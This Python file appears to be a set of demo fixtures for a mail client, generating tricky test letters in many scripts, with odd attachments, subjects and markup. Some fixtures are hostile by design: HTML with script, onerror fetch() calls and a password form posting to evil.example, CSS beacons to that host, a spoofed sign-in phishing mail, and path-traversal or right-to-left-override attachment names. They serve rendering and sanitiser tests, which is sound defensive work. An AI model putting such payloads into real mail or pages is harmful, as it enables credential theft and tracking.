"""Letters that are hard to get right: scripts, shapes, attachments and attacks."""

from datetime import datetime, timedelta

from transom.demo.mailbox.doubtful import doubtful
from transom.demo.mailbox.items import Address, Attachment, Letter
from transom.demo.mailbox.letters import XLSX, html, page, pdf
from transom.demo.mailbox.people import AMARA, INES, JONAS, PRIYA, SECURITY, SOFIA, TOMAS

LANGUAGES = (
    (
        "Visita a la obra el jueves",
        INES,
        "¿Puedes traer los planos? El señor Núñez llegará a las nueve; mañana habrá niebla.",
    ),
    (
        "Sõidujagamine ja võtmed",
        Address("Kadri Õunapuu", "kadri.ounapuu@tallinn.example"),
        "Tere! Võtmed on valvelauas. Jäääärel on libe, olge ettevaatlikud.",
    ),
    (
        "Änderung der Prüfgröße: Lagerkräfte",
        JONAS,
        "Die Maße weichen um 3 mm ab. Bitte Übergangskonstruktion, Größe und Straßenhöhe prüfen.",
    ),
    (
        "橋脚の検査について",
        Address("佐藤 健二", "kenji.sato@litware.example"),
        "お世話になっております。来週の検査日程を添付いたしました。よろしくお願いいたします。",
    ),
    (
        "关于钢梁的交货时间",
        Address("张伟", "zhang.wei@adatum.example"),
        "您好，第三批钢梁将于下周四到港，请确认吊装计划。",
    ),
    (
        "교량 센서 데이터",
        Address("김민서", "minseo.kim@litware.example"),
        "안녕하세요. 지난주 진동 측정 결과를 보내드립니다.",
    ),
    (
        "تقرير سلامة الجسر",
        Address("ليلى حداد", "leila.haddad@proseware.example"),
        "مرحبا أديل، مرفق التقرير رقم 17 عن الركيزة P3، والموعد يوم الخميس الساعة 10:30.",
    ),
    (
        "עדכון לגבי הגשר",
        Address("נועה לוי", "noa.levi@proseware.example"),
        "שלום אדל, המסמך המעודכן (גרסה 4) מצורף. נדבר ביום חמישי ב־10:30.",
    ),
    (
        "पुल निरीक्षण की रिपोर्ट",
        Address("सुनीता शर्मा", "sunita.sharma@adatum.example"),
        "नमस्ते, पिछले सप्ताह के निरीक्षण की रिपोर्ट संलग्न है।",
    ),
    (
        "Μετρήσεις της γέφυρας",
        Address("Ελένη Παππά", "eleni.pappa@proseware.example"),
        "Καλημέρα, οι μετρήσεις είναι έτοιμες και θα τις δείτε αύριο.",
    ),
    (
        "🎉 We did it 👷🏽‍♀️🌉 – deck closed!",
        AMARA,
        "The last segment is in 🥳. Cake at three 🍰, family 👩‍👩‍👧‍👦 welcome. Flags 🇪🇪🇪🇸.",
    ),
)
RTL = ("ليلى", "נועה")
LONG = (
    "Re: Fwd: Re: Minutes, actions, open questions and everything else from the meeting about the "
)
ZERO_WIDTH = "In\u200bvoice over\u00addue \u2028 second line? \u202ereversed"


def showcase(owner: Address, anchor: datetime) -> tuple[Letter, ...]:
    """Return the letters, in the order in which they lie among the ordinary ones."""
    return (
        hostile_script(owner),
        *(language(owner, *one) for one in LANGUAGES[:4]),
        inline_pictures(owner),
        many_attachments(owner, anchor),
        *(language(owner, *one) for one in LANGUAGES[4:8]),
        hostile_names(owner),
        forwarded(owner),
        *(language(owner, *one) for one in LANGUAGES[8:]),
        *odd_subjects(owner),
        no_sender(owner),
        phishing(owner),
        hostile_style(owner),
        huge(owner),
        broken_markup(owner),
        to_everybody(owner),
        plain_with_links(owner),
        *doubtful(owner),
    )


def language(owner: Address, subject: str, sender: Address, text: str) -> Letter:
    rtl = ' dir="rtl"' if sender.name.startswith(RTL) else ""
    return Letter(
        subject,
        sender,
        page(f"<div{rtl}><p>{text}</p><p>{sender.name}</p></div>"),
        to=(owner,),
        sender_zone="Tokyo Standard Time" if "橋" in subject else "FLE Standard Time",
    )


def hostile_script(owner: Address) -> Letter:
    """Return everything that must not run, load, open or leave."""
    host = "https://evil.example"
    body = f"""<html><head><base href="{host}/">
<meta http-equiv="refresh" content="0;url={host}/refresh">
<link rel="preconnect" href="{host}"><link rel="dns-prefetch" href="{host}">
<link rel="stylesheet" href="{host}/a.css"><script src="{host}/a.js"></script>
<script>alert(1)</script></head>
<body onload="alert(2)" background="{host}/body.png"><p>Please see the attached statement.</p>
<img src="x" onerror="fetch('{host}/onerror')">
<svg onload="alert(3)"><image href="{host}/svg.png"/></svg>
<iframe src="{host}/frame"></iframe><object data="{host}/object"></object><embed src="{host}/embed">
<form action="{host}/steal" method="post"><input name="password"><button>Sign in</button></form>
<video poster="{host}/poster.png" src="{host}/v.mp4" autoplay></video>
<audio src="{host}/a.mp3"></audio>
<a href="javascript:alert(4)">Statement</a> <a href="file:///etc/passwd">File</a>
<a href="{host}/login">https://contoso.example/login</a>
<math><mtext><style><img src=x onerror=alert(5)></style></mtext></math></body></html>"""
    return Letter("Your account statement", SECURITY, body, to=(owner,), is_focused=False)


def hostile_style(owner: Address) -> Letter:
    host = "https://evil.example"
    body = f"""<html><head><style>@import '{host}/import.css';
@font-face {{ font-family:x; src:url({host}/font) }}
div.a {{ background:\\75rl({host}/escaped) }} #b::after {{ content:url("{host}/content") }}
body {{ position:fixed; top:-100px; cursor:url({host}/cursor), auto }}</style></head><body>
<div style="background-image:url('{host}/inline.png');
 position:fixed; inset:0; z-index:9999">Overlay</div>
<div style="list-style:image-set('{host}/set.png' 1x)">List</div>
<p style="font-family:x">The price list is below.</p>
<table background="{host}/table.png"><tr><td>Steel</td></tr></table></body></html>"""
    return Letter("Price list with a lot of style", SECURITY, body, to=(owner,), is_focused=False)


def phishing(owner: Address) -> Letter:
    link = '<a href="https://contoso.example.verify-login.example/?u=adele">https://contoso.example/security</a>'
    return Letter(
        "Unusual sign-in activity",
        Address("Contoso account team <security@contoso.example>", "alert@verify-login.example"),
        page(f"<p>Somebody signed in from a new place. Confirm here: {link}</p>"),
        to=(owner,),
        importance="high",
        reply_to=(Address("", "collect@elsewhere.example"),),
        stamp="spf=softfail (sender IP is {ip}) smtp.mailfrom={domain}; dkim=fail (signature did"
        " not verify) header.d={domain};dmarc=fail action=quarantine header.from={domain};"
        "compauth=fail reason=000",
    )


def inline_pictures(owner: Address) -> Letter:
    body = page(
        html(("Before and after:",))
        + '<p><img src="cid:before-1" alt="before"> <img src="cid:AFTER%402" alt="after"></p>'
        + '<p><img src="cid:missing" alt="lost on the way"></p>'
    )
    return Letter(
        "Before and after the new joint",
        JONAS,
        body,
        to=(owner,),
        attachments=(
            Attachment("file", "image001.png", "image/png", "png:1", True, "before-1"),
            Attachment("file", "image002.png", "image/png", "png:3", True, "AFTER@2"),
        ),
    )


def many_attachments(owner: Address, anchor: datetime) -> Letter:
    start = anchor + timedelta(days=3)
    times = f"{start:%Y%m%d}T080000Z|{start:%Y%m%d}T100000Z"
    return Letter(
        "Everything for Thursday",
        PRIYA,
        page(html(("All papers in one mail.", "Priya"))),
        to=(owner,),
        attachments=(
            pdf("agenda.pdf", "Agenda", 2),
            Attachment("file", "costs.xlsx", XLSX, "xlsx:60"),
            Attachment("file", "view.png", "image/png", "png:8"),
            Attachment("file", "site-visit.ics", "text/calendar", f"ics:Site visit|{times}"),
            Attachment("file", "earlier.eml", "message/rfc822", "eml:Levels of the north abutment"),
            Attachment("file", "notes.txt", "text/plain", "txt:Notes"),
            Attachment(
                "reference",
                "Drawings, folder",
                None,
                source_url="https://files.contoso.example/drawings",
            ),
        ),
    )


def hostile_names(owner: Address) -> Letter:
    names = (
        "..\\..\\invoice\u202efdp.exe",
        "CON.txt",
        "a" * 200 + ".txt",
        "../../.bashrc",
        "line\nbreak.txt",
        "",
    )
    return Letter(
        "Scanned documents",
        Address("Scanner", "scanner@contoso.example"),
        page(html(("Six files.",))),
        to=(owner,),
        attachments=tuple(
            Attachment("file", name, "application/octet-stream", f"bytes:{n}")
            for n, name in enumerate(names)
        ),
        is_focused=False,
    )


def forwarded(owner: Address) -> Letter:
    return Letter(
        "FW: Levels of the north abutment",
        INES,
        page(html(("See the mail attached.", "Ines"))),
        to=(owner,),
        attachments=(
            Attachment(
                "item", "Levels of the north abutment", None, "eml:Levels of the north abutment"
            ),
        ),
    )


def odd_subjects(owner: Address) -> tuple[Letter, ...]:
    body = page(html(("The subject is the point here.",)))
    return (
        Letter("", TOMAS, body, to=(owner,)),
        Letter(LONG * 12, TOMAS, body, to=(owner,)),
        Letter(ZERO_WIDTH, TOMAS, body, to=(owner,)),
        Letter("<b>Not bold</b> &amp; not an entity", TOMAS, body, to=(owner,)),
    )


def no_sender(owner: Address) -> Letter:
    return Letter(
        "Delivery report",
        None,
        "The original message was delivered.\r\n",
        is_html=False,
        to=(owner,),
    )


def huge(owner: Address) -> Letter:
    row = "<tr>" + "<td>{0}</td>" * 8 + "</tr>"
    rows = "".join(row.format(number) for number in range(4000))
    return Letter("All readings of the year", JONAS, page(f"<table>{rows}</table>"), to=(owner,))


def broken_markup(owner: Address) -> Letter:
    deep = "<div><blockquote>" * 150
    return Letter(
        "Re: Re: Re: Re: quoted to the ground",
        SOFIA,
        f"<html><body><p>Yes<b>.<table>{deep}Deep down",
        to=(owner,),
    )


def to_everybody(owner: Address) -> Letter:
    crowd = tuple(Address(f"Guest {n}", f"guest{n}@tallinn.example") for n in range(120))
    return Letter(
        "Opening day, guest list", AMARA, page(html(("See you all.",))), to=(owner, *crowd)
    )


def plain_with_links(owner: Address) -> Letter:
    text = (
        "Drawings: https://files.contoso.example/a?b=1&c=<2>\r\n> quoted\r\n>> twice\r\n\r\n"
        + "long line " * 60
    )
    return Letter("Links in plain text", TOMAS, text, is_html=False, to=(owner,))
